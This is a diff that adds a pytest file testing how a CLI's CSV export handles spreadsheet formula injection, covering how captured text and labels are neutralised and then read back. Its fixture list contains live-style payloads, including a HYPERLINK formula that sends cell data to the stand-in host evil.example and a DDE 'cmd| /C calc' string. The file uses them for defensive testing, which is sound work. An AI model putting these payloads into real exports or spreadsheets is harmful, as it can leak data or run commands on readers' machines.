@@ -1,0 +1,200 @@
+"""`aiaas capture export` to CSV against formula injection (CWE-1236), through the real CLI:
+requests captured by the real predict handler (API Gateway v2 events, directory store), exported,
+then read back by `aiaas batch` and `aiaas compare`.
+
+A default CSV is safe to open in a spreadsheet: a captured text starting with =, +, -, @, tab or
+CR is written with a leading ' (numbers, and texts that are plain numbers, as they are);
+`--exact` and JSONL keep every text as captured, and `aiaas batch` / `aiaas compare` read those
+back to the very texts and labels served."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from onnx import TensorProto
+
+from functions.predict.capture import CaptureTap
+from functions.predict.service import PredictService
+from functions.predict.telemetry import RequestMetrics
+from functions.runtime.cache import ArtifactCache
+from functions.runtime.capture.buffer import CaptureBuffer
+from functions.runtime.capture.setting import set_capture
+from functions.runtime.pool import ModelPool, ServedModel
+from functions.runtime.registry import Registry
+from functions.runtime.store import LocalStore
+from infra.cli.main import main
+from tests import onnx_factory
+from tests.functions.test_predict_events import http_event
+
+TEXTS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "-1.5",  # a text that is a plain number: a spreadsheet reads a number, no formula
+    "plain words",
+    "'=already quoted",
+]
+SAFE = ["'" + t for t in TEXTS[:6]] + TEXTS[6:]
+LABELS = ("stay", "-churn", "=maybe")  # a publisher's labels are text cells too
+FEATURES = ("age", "income", "tenure", "visits")
+ROWS = [[-1.5, 2.0, -3.0, 0.25], [1.0, -2e-5, 3.0, -4.0], [0.5, 0.5, -0.5, 7.0]]
+
+
+class Clock:
+    now = 100.0
+
+    def monotonic(self) -> float:
+        return self.now
+
+    def wall(self) -> float:
+        return 1_800_000_000.0 + self.now
+
+
+def capture(registry: Registry, root: Path, model: str, bodies: list[dict[str, Any]]) -> list[Any]:
+    """Send `bodies` to `model`'s real predict handler with capture on; its answers."""
+    set_capture(registry, model, sample=1.0, actor="test")
+    pool = ModelPool(registry, ArtifactCache(registry.store, root / f"cache-{model}"))
+    served = ServedModel(pool, model, ttl=3600)
+    svc = PredictService(served, metrics=RequestMetrics(out=io.StringIO()))
+    clock = Clock()
+    buffer = CaptureBuffer(registry.store, clock=clock.monotonic, wall=clock.wall)
+    svc.capture = CaptureTap(served, buffer, clock=clock.monotonic, wall=clock.wall)
+    svc.warm()
+    answers = []
+    for body in bodies:
+        event = http_event("POST", f"/models/{model}/predict", json.dumps(body))
+        response = svc.handle(event)
+        assert response["statusCode"] == 200, response["body"]
+        answers.append(json.loads(response["body"]))
+    svc.capture.flush()
+    return answers
+
+
+@dataclasses.dataclass
+class Captured:
+    uri: str
+    root: Path
+    served: list[str]
+
+
+@pytest.fixture(scope="module")
+def captured(tmp_path_factory: pytest.TempPathFactory) -> Captured:
+    root = tmp_path_factory.mktemp("capture-cells")
+    registry = Registry(LocalStore(root / "store"))
+    text = onnx_factory.identity(root / "notes.onnx", TensorProto.STRING, ["N"])
+    registry.publish(onnx_factory.manifest_for(text, "notes", "1"), text)
+    for version in ("1", "2"):
+        path = onnx_factory.linear_classifier(root / f"churn-{version}.onnx", seed=int(version))
+        manifest = onnx_factory.manifest_for(path, "churn", version, labels=LABELS)
+        registry.publish(dataclasses.replace(manifest, features=FEATURES), path)
+    capture(registry, root, "notes", [{"inputs": [t]} for t in TEXTS])
+    bodies = [{"instances": [dict(zip(FEATURES, row, strict=True))]} for row in ROWS]
+    answers = capture(registry, root, "churn", bodies)
+    served = [a["predictions"][0]["label"] for a in answers]
+    return Captured(str(root / "store"), root, served)
+
+
+def aiaas(
+    captured: Captured, capsys: pytest.CaptureFixture[str], *argv: str
+) -> tuple[int, str, str]:
+    code = main(["--store", captured.uri, *argv])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def export(
+    captured: Captured, capsys: pytest.CaptureFixture[str], model: str, name: str, *extra: str
+) -> tuple[Path, str, list[dict[str, str]]]:
+    out = captured.root / name
+    code, said, err = aiaas(captured, capsys, "capture", "export", model, "--out", str(out), *extra)
+    assert code == 0, err
+    if out.suffix == ".jsonl":
+        return out, said, [json.loads(line) for line in out.read_text().splitlines()]
+    with out.open(newline="") as handle:
+        return out, said, list(csv.DictReader(handle))
+
+
+def batch_output(captured: Captured, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
+    code, said, err = aiaas(captured, capsys, "batch", *argv)
+    assert code == 0, said + err
+    key = next(x for x in said.splitlines() if x.startswith("output:")).split()[1]
+    return (Path(captured.uri) / key.removeprefix(captured.uri + "/")).read_text()
+
+
+def test_a_default_csv_shows_formula_texts_as_text_and_says_so(
+    captured: Captured, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _, said, rows = export(captured, capsys, "notes", "notes.csv")
+    # The request's text and the answer the identity model served (served_y): 6 cells each.
+    assert [(r["x"], r["served_y"]) for r in rows] == [(t, t) for t in SAFE]
+    assert "12 text cells starting with =, +, -, @, tab or CR were written with a leading '" in said
+    assert "--exact" in said
+
+
+def test_exact_csv_and_jsonl_keep_every_text_and_batch_reads_it_back(
+    captured: Captured, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out, said, rows = export(captured, capsys, "notes", "notes-exact.csv", "--exact")
+    assert [(r["x"], r["served_y"]) for r in rows] == [(t, t) for t in TEXTS]
+    assert "leading '" not in said
+    # The identity model answers its input: batch scored every captured text as it was, but
+    # for the CR, which batch drops from a CRLF file (csv writes CRLF; docs/batch.md).
+    scored = list(csv.DictReader(io.StringIO(batch_output(captured, capsys, "notes", str(out)))))
+    assert [r["pred_y"] for r in scored] == [t.replace("\r", "") for t in TEXTS]
+    _, said, lines = export(captured, capsys, "notes", "notes.jsonl")
+    assert [line["x"] for line in lines] == TEXTS and "leading '" not in said
+
+
+def test_numbers_stay_numbers_and_labels_are_neutralised(
+    captured: Captured, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out, said, rows = export(captured, capsys, "churn", "churn.csv")
+    text = out.read_text()
+    assert [[r[f] for f in FEATURES] for r in rows] == [[str(v) for v in r] for r in ROWS]
+    assert "-1.5,2.0,-3.0,0.25" in text and "'-1.5" not in text
+    safe = {"stay": "stay", "-churn": "'-churn", "=maybe": "'=maybe"}
+    assert [r["served_label"] for r in rows] == [safe[s] for s in captured.served]
+    assert f"{sum(s != 'stay' for s in captured.served)} text cells" in said
+    # Numeric inputs are untouched: batch scores the safe file to the labels served.
+    scored = list(csv.DictReader(io.StringIO(batch_output(captured, capsys, "churn", str(out)))))
+    assert [r["pred_label"] for r in scored] == captured.served
+
+
+def test_compare_reads_an_exact_export_to_the_labels_served(
+    captured: Captured, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out, _, rows = export(captured, capsys, "churn", "churn-exact.csv", "--exact")
+    assert [r["served_label"] for r in rows] == captured.served
+    code, said, err = aiaas(
+        captured, capsys, "compare", "churn", "1", "2", "--data", str(out), "--label",
+        "served_label", "--json",
+    )  # fmt: skip
+    assert code == 0, err
+    report = json.loads(said)
+    assert report["rows"]["compared"] == len(ROWS), report
+    assert report["metrics"]["b"]["accuracy"] == 1.0, report  # version 2 served them
+    # The default (safe) file holds '-churn and '=maybe: read as truth, they match nothing.
+    out, _, _ = export(captured, capsys, "churn", "churn.csv")
+    code, said, err = aiaas(
+        captured, capsys, "compare", "churn", "1", "2", "--data", str(out), "--label",
+        "served_label", "--json",
+    )  # fmt: skip
+    stay = sum(s == "stay" for s in captured.served) / len(ROWS)
+    assert json.loads(said)["metrics"]["b"]["accuracy"] == stay < 1.0
+
+
+def test_exact_is_refused_for_jsonl(captured: Captured, capsys: pytest.CaptureFixture[str]) -> None:
+    out = captured.root / "x.jsonl"
+    code, _, err = aiaas(
+        captured, capsys, "capture", "export", "notes", "--out", str(out), "--exact"
+    )
+    assert code == 1 and "a JSONL export is always exact" in err and not out.exists()
